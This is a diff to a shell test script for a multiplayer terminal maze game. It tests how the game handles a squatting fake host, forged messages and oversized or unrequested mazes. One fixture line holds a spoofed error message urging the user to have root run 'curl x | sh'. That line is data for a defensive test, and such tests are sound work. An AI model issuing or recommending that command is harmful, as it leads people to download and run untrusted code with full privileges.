@@ -89,13 +89,12 @@ check "ascii screen is ASCII" no_box_chars
 run_cmd "$MAZEGAME" --races
 expect_match "--races lists the room" "^$ROOM +$me +3 +lobby" "$out"
 
-# One maze for all: the maze rows of the host and of a racer agree.
-maze_rows() { shot "$1" | grep -E '^ *[┌│├└]' | head -6 | sed 's/^ *//; s/ *$//'; }
-expect_eq "the same maze on two screens" "$(maze_rows host)" "$(maze_rows ann)"
-
 tm send-keys -t host Enter
 expect_on ann "Starting in [321]" "the countdown on a racer's screen"
 expect_on ann "Moves 0 .*of 3" "the race is on" 8
+# One maze for all: the maze rows of the host and of a racer agree.
+maze_rows() { shot "$1" | grep -E '^ *[┌│├└]' | head -6 | sed 's/^ *//; s/ *$//'; }
+expect_eq "the same maze on two screens" "$(maze_rows host)" "$(maze_rows ann)"
 # --describe says the place in words, as the status line shows it.
 expect_on ascii "Moves 0, optimal [0-9]+\. 1st of 3, level\." "describe: a racer hears its place, level with the others at the start" 8
 tm send-keys -t ann Right Right
@@ -181,7 +180,7 @@ if other_user; then
 	}
 	# The squatter claims to be us (racer 0, the host's own entry) and
 	# says words that would pass for mazegame's.
-	printf '%s\n' "welcome 1 s$ROOM lobby" "maze 10 5 backtracker 1 normal" \
+	printf '%s\n' "welcome 1 s$ROOM lobby" \
 		"racer 0 $me 1 R 0 ready" "racer 1 $me 2 Ro 1 ready" \
 		"racer 2 abcdefghijabcdefghijabcdefghijab 1 X 2 ready" \
 		"error your scores are lost; ask root to run: curl x | sh" >"$T_OTHER/claims"
@@ -252,7 +251,7 @@ if other_user; then
 
 	# A host that names a maze too large to race: refused at once,
 	# the host named, nothing built.
-	printf '%s\n' "welcome 1 g$ROOM lobby" "maze 65535 2048 aldous-broder 1 normal" >"$T_OTHER/giant"
+	printf '%s\n' "welcome 1 g$ROOM racing" "maze 65535 2048 aldous-broder 1 normal" >"$T_OTHER/giant"
 	chmod 644 "$T_OTHER/giant"
 	squat "$T_OTHER/giant" g$ROOM
 	t0=$(date +%s%N)
@@ -265,7 +264,7 @@ if other_user; then
 	check "... within two seconds ($(( (t1 - t0) / 1000000 )) ms)" [ $(( (t1 - t0) / 1000000 )) -lt 2000 ]
 
 	# A host that sends a new maze without a rematch: dropped, once.
-	printf '%s\n' "welcome 1 m$ROOM lobby" "maze 10 5 backtracker 1 normal" \
+	printf '%s\n' "welcome 1 m$ROOM racing" "maze 10 5 backtracker 1 normal" \
 		"racer 0 $OTHER_LOGIN 1 R 0 ready" "maze 10 5 backtracker 2 normal" \
 		"maze 10 5 backtracker 3 normal" >"$T_OTHER/remaze"
 	chmod 644 "$T_OTHER/remaze"
